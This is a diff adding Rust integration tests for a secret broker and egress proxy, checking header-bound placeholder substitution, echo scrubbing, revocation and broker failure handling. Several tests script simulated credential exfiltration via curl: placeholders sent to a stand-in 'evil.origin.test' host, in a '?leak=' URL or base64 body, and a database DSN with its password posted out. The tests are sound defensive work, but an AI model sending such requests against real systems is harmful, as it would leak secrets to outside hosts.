@@ -1,0 +1,372 @@
+//! The broker and the proxy together, against real OpenBao and PostgreSQL: the proxy learns
+//! invocations from the broker, swaps a placeholder for the real value only in its bound header
+//! on its bound hosts, puts the placeholder back where an echo origin reflects the value, blocks
+//! issued values and placeholders everywhere else, and the broker then revokes them on the
+//! server. An ended invocation stops working on a connection that is already open.
+
+mod support;
+
+use std::process::Command;
+use std::time::{Duration, Instant};
+
+use support::broker::{Broker, BrokerSpec, KV, POLICY_T, POLICY_U, PROXY_TOKEN};
+use support::secrets::{OpenBao, Postgres, seed};
+use support::{Origin, OriginCerts, Place, Proxy, ProxySpec, basic, free_port, parse_answer, python, raw};
+
+const NAMES: &[&str] = &["api.origin.test", "echo.origin.test", "evil.origin.test"];
+
+struct Stack {
+    _bao: OpenBao,
+    pg: Postgres,
+    broker: Broker,
+    proxy: Proxy,
+    origin: Origin,
+    _certs_dir: tempfile::TempDir,
+}
+
+fn policy(port: u16) -> String {
+    POLICY_T.replace(
+        "ports = [443]",
+        &format!("ports = [{port}]\nallow_private = [\"127.0.0.0/8\"]"),
+    )
+}
+
+impl Stack {
+    fn start() -> Self {
+        let bao = OpenBao::start();
+        let pg = Postgres::start();
+        seed(&bao, Some(&pg), KV);
+        let certs_dir = tempfile::tempdir().expect("tempdir");
+        let certs = OriginCerts::new(certs_dir.path(), NAMES);
+        let origin = Origin::tls(Place::Host, "127.0.0.1", free_port(), &certs);
+        let policy = policy(origin.port);
+        let broker = Broker::start(&BrokerSpec {
+            vault_address: bao.address(),
+            auth: None,
+            store: None,
+            proxy_address: None,
+            policies: &[("t", &policy), ("u", POLICY_U)],
+        });
+        let hosts: Vec<(&str, &str)> = NAMES.iter().map(|n| (*n, "127.0.0.1")).collect();
+        let extra = format!(
+            "[broker]\nurl = \"{}\"\ntoken_file = \"{}\"\ncache_ttl = \"2s\"\ntimeout = \"1s\"\n",
+            broker.control_url(),
+            broker.dir.path().join("proxy.token").display()
+        );
+        let proxy = Proxy::start(
+            Place::Host,
+            &ProxySpec {
+                tenant_policy: &policy,
+                origin_ca: &certs.ca,
+                hosts: &hosts,
+                nameservers: &[],
+                extra: &extra,
+            },
+        );
+        Self {
+            _bao: bao,
+            pg,
+            broker,
+            proxy,
+            origin,
+            _certs_dir: certs_dir,
+        }
+    }
+
+    fn url(&self, host: &str, path: &str) -> String {
+        format!("https://{host}:{}{path}", self.origin.port)
+    }
+
+    /// curl through the proxy as the invocation; (status, body).
+    fn curl(&self, id: &str, secret: &str, args: &[&str]) -> (u16, String) {
+        let out = Command::new("curl")
+            .args(["-sS", "--max-time", "10", "-o", "-", "-w", "\n%{http_code}"])
+            .args(["-x", &self.proxy.url(id, secret)])
+            .args(args)
+            .env("CURL_CA_BUNDLE", self.proxy.ca())
+            .output()
+            .expect("curl");
+        let text = String::from_utf8_lossy(&out.stdout).into_owned();
+        let (body, code) = text.trim_end().rsplit_once('\n').unwrap_or(("", text.trim()));
+        (code.trim().parse().unwrap_or(0), body.to_owned())
+    }
+
+    fn ended(&self, id: &str, secret: &str) -> bool {
+        let lookup = serde_json::json!({"invocation_id": id, "secret": secret}).to_string();
+        self.broker.control(PROXY_TOKEN, "/v1/lookup", &lookup).0 == 401
+    }
+}
+
+fn sha256(text: &str) -> String {
+    let out = Command::new("sha256sum")
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+        .and_then(|mut child| {
+            use std::io::Write as _;
+            child.stdin.take().expect("stdin").write_all(text.as_bytes())?;
+            child.wait_with_output()
+        })
+        .expect("sha256sum");
+    String::from_utf8_lossy(&out.stdout)
+        .split_whitespace()
+        .next()
+        .unwrap_or_default()
+        .to_owned()
+}
+
+fn reason(body: &str) -> String {
+    serde_json::from_str::<serde_json::Value>(body)
+        .ok()
+        .and_then(|v| v["reason"].as_str().map(str::to_owned))
+        .unwrap_or_default()
+}
+
+fn wait_until(limit: Duration, mut done: impl FnMut() -> bool) -> Option<Duration> {
+    let started = Instant::now();
+    while started.elapsed() < limit {
+        if done() {
+            return Some(started.elapsed());
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    None
+}
+
+#[test]
+fn placeholders_become_the_real_value_only_on_their_bound_hosts_and_echoes_are_scrubbed() {
+    let stack = Stack::start();
+    let (id, secret) = stack.broker.invocation("t", "fetch", "s");
+    let placeholder = stack.broker.credential(&id, &secret, "api-key").1["value"]
+        .as_str()
+        .expect("placeholder")
+        .to_owned();
+    let real = KV[0].2;
+
+    // The bound host receives the real value in the bound header.
+    let check = stack.url(
+        "api.origin.test",
+        &format!("/check?header=x-api-key&sha256={}", sha256(real)),
+    );
+    let (status, body) = stack.curl(
+        &id,
+        &secret,
+        &["-H", &format!("X-Api-Key: {placeholder}"), &check],
+    );
+    assert_eq!(status, 200, "{body}\n{}", stack.proxy.log_text());
+    assert!(
+        body.contains("\"match\": true"),
+        "the origin did not get the real value: {body}"
+    );
+
+    // An echo origin reflects the header: the tool sees its placeholder, never the value.
+    let (status, body) = stack.curl(
+        &id,
+        &secret,
+        &[
+            "-H",
+            &format!("X-Api-Key: {placeholder}"),
+            &stack.url("echo.origin.test", "/echo"),
+        ],
+    );
+    assert_eq!(status, 200, "{body}");
+    assert!(!body.contains(real), "the real value came back to the tool");
+    let echoed: serde_json::Value = serde_json::from_str(&body).expect("json");
+    assert_eq!(echoed["headers"]["x-api-key"], placeholder.as_str());
+    assert!(
+        !stack.ended(&id, &secret),
+        "legitimate use must not end the invocation"
+    );
+}
+
+#[test]
+fn a_placeholder_sent_anywhere_else_is_blocked_and_the_invocation_revoked() {
+    let stack = Stack::start();
+    // Each attempt: curl arguments carrying the placeholder (EVIL and API stand for URLs).
+    type Attempt = Box<dyn Fn(&str) -> Vec<String>>;
+    let attempts: Vec<(&str, Attempt)> = vec![
+        (
+            "other host",
+            Box::new(|p: &str| vec!["-H".into(), format!("X-Api-Key: {p}"), "EVIL".into()]),
+        ),
+        (
+            "other header",
+            Box::new(|p: &str| vec!["-H".into(), format!("X-Other: {p}"), "API".into()]),
+        ),
+        ("url", Box::new(|p: &str| vec![format!("API?leak={p}")])),
+        (
+            "base64 body",
+            Box::new(|p: &str| {
+                use base64::Engine as _;
+                vec![
+                    "--data-binary".into(),
+                    base64::engine::general_purpose::STANDARD.encode(p),
+                    "API".into(),
+                ]
+            }),
+        ),
+    ];
+    for (what, args) in attempts {
+        let (id, secret) = stack.broker.invocation("t", "fetch", &what.replace(' ', "-"));
+        let placeholder = stack.broker.credential(&id, &secret, "api-key").1["value"]
+            .as_str()
+            .expect("placeholder")
+            .to_owned();
+        let args: Vec<String> = args(&placeholder)
+            .into_iter()
+            .map(|a| {
+                a.replace("EVIL", &stack.url("evil.origin.test", "/"))
+                    .replace("API", &stack.url("api.origin.test", "/x"))
+            })
+            .collect();
+        let refs: Vec<&str> = args.iter().map(String::as_str).collect();
+        let (status, body) = stack.curl(&id, &secret, &refs);
+        assert_eq!(
+            (status, reason(&body).as_str()),
+            (403, "issued_credential_misuse"),
+            "{what}: {body}"
+        );
+        assert!(
+            wait_until(Duration::from_secs(2), || stack.ended(&id, &secret)).is_some(),
+            "{what}: not revoked"
+        );
+    }
+}
+
+#[test]
+fn a_stolen_database_password_is_dead_on_the_server_within_a_second_of_the_block() {
+    let stack = Stack::start();
+    let (id, secret) = stack.broker.invocation("t", "fetch", "s");
+    let db = stack.broker.credential(&id, &secret, "db").1;
+    let (user, password) = (
+        db["username"].as_str().expect("user").to_owned(),
+        db["value"].as_str().expect("pw").to_owned(),
+    );
+    assert!(stack.pg.login(&user, &password));
+    let body = format!("{{\"dsn\": \"postgres://{user}:{password}@db.example/prod\"}}");
+    let blocked = Instant::now();
+    let (status, answer) = stack.curl(
+        &id,
+        &secret,
+        &["--data-binary", &body, &stack.url("api.origin.test", "/upload")],
+    );
+    assert_eq!(
+        (status, reason(&answer).as_str()),
+        (403, "issued_credential_misuse"),
+        "{answer}"
+    );
+    assert!(
+        wait_until(Duration::from_secs(5), || !stack.pg.login(&user, &password)).is_some(),
+        "the password still logs in"
+    );
+    // Measured from sending the request to the first failed login (psql itself takes tens of
+    // milliseconds); the README's benchmark gives the bound.
+    eprintln!("exfil block to revoked on the server: {:?}", blocked.elapsed());
+    assert!(
+        !stack.proxy.log_text().contains(&password),
+        "the password is in the proxy log"
+    );
+    assert!(
+        !stack.broker.log_text().contains(&password),
+        "the password is in the broker log"
+    );
+}
+
+#[test]
+fn issued_values_are_blocked_even_where_the_tenant_switched_known_secret_off() {
+    let stack = Stack::start();
+    // Report mode and known-secret off would let an ordinary finding through; not this.
+    let relaxed = policy(stack.origin.port).replace(
+        "mode = \"enforce\"",
+        "mode = \"report\"\n[detectors]\ndisable = [\"known-secret\"]",
+    );
+    std::fs::write(stack.proxy.policy_path(), relaxed).expect("policy");
+    std::thread::sleep(Duration::from_millis(1500));
+    let (id, secret) = stack.broker.invocation("t", "fetch", "s");
+    let value = stack.broker.credential(&id, &secret, "child-token").1["value"]
+        .as_str()
+        .expect("token")
+        .to_owned();
+    let (status, body) = stack.curl(
+        &id,
+        &secret,
+        &[
+            "-H",
+            &format!("X-Token: {value}"),
+            &stack.url("evil.origin.test", "/"),
+        ],
+    );
+    assert_eq!(
+        (status, reason(&body).as_str()),
+        (403, "issued_credential_misuse"),
+        "{body}"
+    );
+}
+
+#[test]
+fn an_ended_invocation_stops_on_an_open_connection_and_a_dead_broker_is_a_503() {
+    let mut stack = Stack::start();
+    let (id, secret) = stack.broker.invocation("t", "fetch", "s");
+    // One keep-alive connection through the proxy: a request, the end, a request later.
+    let script = r#"
+import sys, time, requests
+s = requests.Session()
+s.trust_env = False
+s.proxies = {"https": sys.argv[1]}
+s.verify = sys.argv[2]
+first = s.get(sys.argv[3], timeout=10).status_code
+print(first, flush=True)
+sys.stdin.readline()
+time.sleep(2.5)
+r = s.get(sys.argv[3], timeout=10)
+print(r.status_code, r.headers.get("x-tollgate-reason"), flush=True)
+"#;
+    let mut child = Command::new(python())
+        .args(["-c", script, &stack.proxy.url(&id, &secret)])
+        .arg(stack.proxy.ca())
+        .arg(stack.url("api.origin.test", "/x"))
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+        .expect("python");
+    let mut stdout = std::io::BufReader::new(child.stdout.take().expect("stdout"));
+    let mut line = String::new();
+    std::io::BufRead::read_line(&mut stdout, &mut line).expect("first");
+    assert_eq!(line.trim(), "200");
+    assert_eq!(stack.broker.end(&id).0, 200);
+    std::io::Write::write_all(child.stdin.as_mut().expect("stdin"), b"go\n").expect("go");
+    line.clear();
+    std::io::BufRead::read_line(&mut stdout, &mut line).expect("second");
+    let _ = child.wait();
+    assert_eq!(
+        line.trim(),
+        "407 invocation_ended",
+        "an ended invocation went on working on its open connection"
+    );
+
+    // The broker gone: a clear 503, never a 407 and never a hang.
+    let (id2, secret2) = stack.broker.invocation("t", "fetch", "s2");
+    stack.broker.kill();
+    let started = Instant::now();
+    let target = format!("api.origin.test:{}", stack.origin.port);
+    let head = format!(
+        "CONNECT {target} HTTP/1.1\r\nhost: {target}\r\nproxy-authorization: {}\r\n\r\n",
+        basic(&id2, &secret2)
+    );
+    let (status, body) = parse_answer(&raw(Place::Host, stack.proxy.port, head.as_bytes(), 5.0));
+    let body = body.unwrap_or_default();
+    assert_eq!(
+        (status, body["reason"].as_str()),
+        (503, Some("broker_unavailable")),
+        "{body}"
+    );
+    assert!(started.elapsed() < Duration::from_secs(5));
+    stack.broker.launch();
+    assert_eq!(
+        stack
+            .curl(&id2, &secret2, &[&stack.url("api.origin.test", "/x")])
+            .0,
+        200,
+        "the proxy recovers by itself"
+    );
+}
